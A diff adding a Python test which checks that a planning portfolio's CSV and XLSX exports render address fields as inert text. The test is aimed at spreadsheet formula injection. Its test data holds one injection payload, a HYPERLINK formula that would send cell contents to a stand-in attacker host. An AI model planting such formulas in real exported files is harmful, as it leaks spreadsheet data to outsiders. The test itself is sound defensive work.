@@ -203,3 +203,17 @@ def test_stale_plan_inputs_are_computed_or_refused(manager, stock, monkeypatch):
     monkeypatch.setattr(services, "ON_THE_FLY", 1000)
     plan = manager.post("/api/v1/planning/portfolio", json=request).get_json()
     assert plan["steps"]  # computed on the fly, then planned
+
+
+def test_exports_carry_addresses_as_inert_text(manager, make_user):
+    address = '=HYPERLINK("http://angriper.example/?d="&A1;"Se plan")'
+    unit = assessed_unit(make_user("inspector"), NARROW_DOOR, district="Idd", address=address)
+    request = {"budget": 2_000_000, "priorities": {"wheelchair_manual": 1}}
+    data = manager.post("/api/v1/planning/portfolio?format=csv", json=request).data
+    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
+    assert [row[2] for row in table[1:] if row[1] == str(unit.id)][0] == "'" + address
+    xlsx = manager.post("/api/v1/planning/portfolio?format=xlsx", json=request).data
+    sheet = load_workbook(io.BytesIO(xlsx)).active
+    cells = [row[2] for row in sheet.iter_rows(min_row=2) if row[1].value == unit.id]
+    assert cells and cells[0].data_type == "s" and cells[0].value == "'" + address
+    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
